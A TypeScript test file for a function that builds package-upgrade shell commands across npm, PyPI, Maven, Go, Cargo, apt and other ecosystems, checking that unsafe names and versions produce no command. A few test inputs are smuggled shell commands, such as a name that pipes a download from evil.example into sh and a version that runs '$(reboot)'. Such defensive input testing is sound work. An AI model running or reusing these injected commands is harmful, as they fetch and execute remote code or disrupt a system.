import fc from 'fast-check';
import { expect, test } from 'vitest';
import { upgradeCommands } from './upgrade-commands.ts';

test.each([
  ['npm', '@scope/tool', '2.0.0', ['npm install @scope/tool@2.0.0', 'npm ls @scope/tool']],
  ['npm', 'axios', null, ['npm install axios@latest', 'npm ls axios']],
  ['pypi', 'flask', '2.3.2', ['pip install --upgrade "flask>=2.3.2"']],
  ['pypi', 'flask', null, ['pip install --upgrade "flask"']],
  [
    'maven',
    'org.apache.logging.log4j:log4j-core',
    '2.17.1',
    [
      'mvn versions:use-dep-version -Dincludes=org.apache.logging.log4j:log4j-core -DdepVersion=2.17.1 -DforceVersion=true',
      'mvn dependency:tree -Dincludes=org.apache.logging.log4j:log4j-core',
    ],
  ],
  ['maven', 'a:b', null, ['mvn dependency:tree -Dincludes=a:b']],
  [
    'golang',
    'golang.org/x/net',
    '0.17.0',
    ['go get golang.org/x/net@v0.17.0 && go mod tidy', 'go mod why -m golang.org/x/net'],
  ],
  ['golang', 'stdlib', '1.21.3', ['go get go@1.21.3']],
  ['cargo', 'time', '0.2.23', ['cargo update --package time --precise 0.2.23', 'cargo tree --invert time']],
  ['gem', 'rack', '2.2.6.3', ['bundle update --conservative rack']],
  [
    'composer',
    'symfony/http-kernel',
    'v5.4.20',
    ['composer require "symfony/http-kernel:^5.4.20"', 'composer why symfony/http-kernel'],
  ],
  [
    'nuget',
    'Newtonsoft.Json',
    '13.0.1',
    ['dotnet add package Newtonsoft.Json --version 13.0.1', 'dotnet nuget why Newtonsoft.Json'],
  ],
  ['deb', 'libssl1.1', '1.1.1n-0+deb11u5', ['apt-get update && apt-get install --only-upgrade libssl1.1']],
  ['rpm', 'openssl-libs', null, ['dnf upgrade openssl-libs']],
  ['apk', 'musl', '1.1.22-r4', ['apk add --upgrade musl']],
  ['swift', 'a', '1', []],
  ['constructor', 'a', '1', []],
  ['npm', 'a; curl evil.example | sh', '1.0.0', []],
  ['npm', '--global', '1.0.0', []],
  ['npm', 'a', '$(reboot)', []],
  ['npm', 'a\nb', '1.0.0', []],
])('%s %s to %s', (type, name, version, lines) => {
  expect(upgradeCommands(type, name, version)).toEqual(lines);
});

/** Letters that are nothing to a shell, and those that are. */
const TEXT = fc.string({ unit: fc.constantFrom(...'aZ1.-@/', ...' ;$"`\'\n&|<>*(\\'), maxLength: 5 });

test('a name or version that a shell would read otherwise gives no line', () => {
  fc.assert(
    fc.property(
      fc.constantFrom('npm', 'pypi', 'maven', 'golang', 'deb'),
      TEXT,
      TEXT,
      (type, name, version) => {
        const isPlain = [name, version].every((text) => /^[@aZ1][@aZ1./-]*$/.test(text));
        expect(upgradeCommands(type, name, version).length > 0).toBe(isPlain);
      },
    ),
  );
});
